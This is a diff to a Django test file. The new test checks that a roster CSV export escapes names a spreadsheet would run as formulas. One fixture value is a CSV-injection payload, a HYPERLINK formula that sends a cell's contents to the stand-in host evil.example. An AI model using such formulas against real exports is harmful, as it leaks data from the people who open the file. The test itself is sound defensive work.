@@ -4,7 +4,9 @@ form; a decision that is taken stores its text exactly as typed (less surroundin
 text with NUL or longer than the form allows is never stored. Each example starts from the
 same world: it runs in a savepoint that is rolled back."""
 
+import csv
 import datetime
+import io
 from collections.abc import Callable
 from dataclasses import dataclass, field
 
@@ -285,3 +287,19 @@ def test_api_keys_store_their_name_exactly_or_refuse_it(cast, settings, values, 
     else:
         assert_refused_clearly(response)
     assert not CountyMembership.objects.filter(user=cast.state).exists()
+
+
+def test_names_that_spreadsheets_would_run_as_formulas_reach_the_roster_csv_as_text(workspace):
+    admin_client, scene = workspace
+    Certification.objects.filter(pk=scene.active.pk).update(
+        first_name='=HYPERLINK("http://evil.example/?"&A1,"Open")', last_name="@SUM(1+1)"
+    )
+    Certification.objects.filter(pk=scene.expired.pk).update(first_name="-2+3", last_name="Lee")
+
+    response = admin_client.get(_ws("roster_csv"))
+
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    names = {(row[2], row[3]) for row in rows[1:]}
+    assert ('\'=HYPERLINK("http://evil.example/?"&A1,"Open")', "'@SUM(1+1)") in names
+    assert ("'-2+3", "Lee") in names
+    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row[2:4])
